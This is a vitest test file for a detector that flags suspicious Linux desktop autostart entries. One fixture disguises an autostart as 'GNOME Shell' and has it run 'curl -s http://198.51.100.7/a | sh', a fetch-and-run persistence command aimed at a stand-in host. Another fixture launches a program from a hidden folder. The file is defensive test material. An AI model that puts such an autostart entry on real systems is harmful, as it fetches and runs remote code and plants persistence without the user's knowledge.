import { expect, test } from 'vitest';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { desktop } from './desktop.ts';

const passwd = 'ann:x:1000:1000::/home/ann:/bin/bash\n';

test('an autostart of a desktop that runs what it fetches, or from a hidden folder, is told openly', () => {
  expect(
    openSightings(desktop, {
      '/etc/passwd': passwd,
      '/home/ann/.config/autostart/gnome.desktop':
        '[Desktop Entry]\nType=Application\nName=GNOME Shell\nExec=sh -c "curl -s http://198.51.100.7/a | sh"\n',
      '/home/ann/.config/autostart/up.desktop': '[Desktop Entry]\nExec=/home/ann/.xcache/up %U\n',
    }),
  ).toMatchObject([{ line: 4, ...because('fetches-and-runs') }, because('from-hidden-folder')]);
});

test('ordinary ones are told aside', () => {
  const files = {
    '/etc/passwd': passwd,
    '/etc/xdg/autostart/a.desktop': '[Desktop Entry]\nExec=/usr/libexec/at-spi-bus-launcher --launch-immediately\n',
    '/home/ann/.config/autostart/dropbox.desktop': '[Desktop Entry]\nHidden=true\nExec=dropbox start -i\n',
  };
  expect(sightings(desktop, files)).toMatchObject([{ aside: true }, { aside: true, value: { enabled: false } }]);
});
